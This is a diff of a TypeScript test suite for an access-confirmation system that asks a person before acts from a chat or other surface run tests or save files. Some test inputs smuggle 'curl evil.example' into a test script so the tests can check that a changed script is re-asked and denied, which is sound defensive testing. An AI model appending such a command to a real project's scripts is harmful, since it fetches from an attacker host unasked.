@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import type { ActRequest } from '../../../../src/server/access/actRequest.ts';
 import type { ClientAccess } from '../../../../src/server/access/clientAccess.ts';
+import type { Waiter } from '../../../../src/server/access/waiter.ts';
 import { AccessBench, clientToken, look, propose, reasonOf, run, tests, viewerOf, waiter, windowToken } from '../support/accessBench.ts';
 
 const command: ActRequest = {
@@ -43,7 +44,10 @@ describe('An act that confirms itself', () => {
     await bench.confirmed(client, tests(), 'allowSession');
     const confirming = client.confirm(tests('mocha && curl evil.example'), waiter());
     const { why, differences } = await bench.person.untilAsked();
-    assert.deepEqual([why, differences], ['changed', [{ field: 'script', before: 'mocha', after: 'mocha && curl evil.example' }]]);
+    assert.deepEqual(
+      [why, differences],
+      ['changed', [{ field: 'runs.scripts.test', before: 'mocha', after: 'mocha && curl evil.example' }]],
+    );
     bench.person.answer('deny');
     await assert.rejects(confirming);
   });
@@ -84,9 +88,74 @@ describe('An act that confirms itself', () => {
     await confirming;
   });
 
-  it('is not asked of the chat: its host asks', async () => {
+  it('is asked of the chat too, where the call came from, with the answers of an outside client', async () => {
     const chat = bench.session({ id: 'chat', kind: 'chat' }, 'c');
-    assert.equal(await bench.confirmed(chat, command), 'allowed');
+    const { id: ownCallId } = bench.person.ownCalls.begin({ principal: 'chat', ask: bench.person.questions.ask });
+    for (const [act, choices] of [
+      [command, ['deny', 'allowOnce']],
+      [tests(), ['deny', 'allowOnce', 'allowSession']],
+      [{ ...tests(), offersSession: false }, ['deny', 'allowOnce']],
+    ] as const) {
+      const confirming = chat.confirm(act, { ...waiter(), ownCallId });
+      const question = await bench.person.untilAsked();
+      assert.deepEqual(question.choices, choices);
+      assert.deepEqual(question.detail, { kind: 'ownAct', by: 'chat', tool: act.tool, what: act.what });
+      bench.person.answer('deny');
+      await assert.rejects(confirming, { code: 'server.denied' });
+    }
+  });
+
+  it('is denied to a call of the chat that nobody can be asked about', async () => {
+    const chat = bench.session({ id: 'chat', kind: 'chat' }, 'c');
+    const over = bench.person.ownCalls.begin({ principal: 'chat', ask: bench.person.questions.ask });
+    over.dispose();
+    for (const ownCallId of [undefined, 'made up', over.id]) {
+      await assert.rejects(chat.confirm(command, { ...waiter(), ownCallId }), { code: 'server.denied' });
+    }
+    assert.equal(bench.person.isAsked, false);
+  });
+
+  it('allowed to the chat for the session is allowed to no other surface, and not when the script is another one', async () => {
+    const chat = bench.session({ id: 'chat', kind: 'chat' }, 'c');
+    const { ask } = bench.person.questions;
+    const own = (principal: 'chat' | 'palette' | 'command'): Waiter => ({
+      ...waiter(),
+      ownCallId: bench.person.ownCalls.begin({ principal, ask }).id,
+    });
+    const first = chat.confirm(tests(), own('chat'));
+    await bench.person.untilAsked();
+    bench.person.answer('allowSession');
+    await first;
+    await chat.confirm(tests(), own('chat'));
+    for (const [act, principal, why] of [
+      [tests(), 'palette', 'new'],
+      [tests(), 'command', 'new'],
+      [tests('curl evil.example'), 'chat', 'changed'],
+    ] as const) {
+      const confirming = chat.confirm(act, own(principal));
+      assert.equal((await bench.person.untilAsked()).why, why);
+      bench.person.answer('deny');
+      await assert.rejects(confirming, { code: 'server.denied' });
+    }
+  });
+
+  it('that saves is allowed for the session whatever the file', async () => {
+    const save = (path: string): ActRequest => ({ tool: 'save_file', role: 'editor', what: { kind: 'save', path }, offersSession: true });
+    assert.equal(await bench.confirmed(client, save('a.ts'), 'allowSession'), 'allowed');
+    assert.equal(await bench.confirmed(client, save('b.ts')), 'allowed');
+  });
+
+  it('does not happen when the policy has come to deny it while the question was open', async () => {
+    let rules: unknown = [];
+    const strict = bench.open(bench.person, () => rules);
+    const other = bench.session(windowToken, 's9', strict);
+    await bench.answered(other, look, 'allowSession', 'runner');
+    const confirming = other.confirm(tests(), waiter());
+    await bench.person.untilAsked();
+    rules = [{ effect: 'deny', tool: 'run_*' }];
+    bench.policyChanged.fire();
+    bench.person.answer('allowOnce');
+    await assert.rejects(confirming, { code: 'server.policy' });
   });
 
   it('lets one of two identical calls through with "Allow once", and asks again for the other', async () => {
@@ -94,6 +163,7 @@ describe('An act that confirms itself', () => {
     let passed = 0;
     both.forEach((each) => void each.then(() => (passed += 1)));
     bench.person.answer('allowOnce');
+    await Promise.race(both);
     await bench.person.untilAsked();
     assert.equal(passed, 1);
     bench.person.answer('allowOnce');
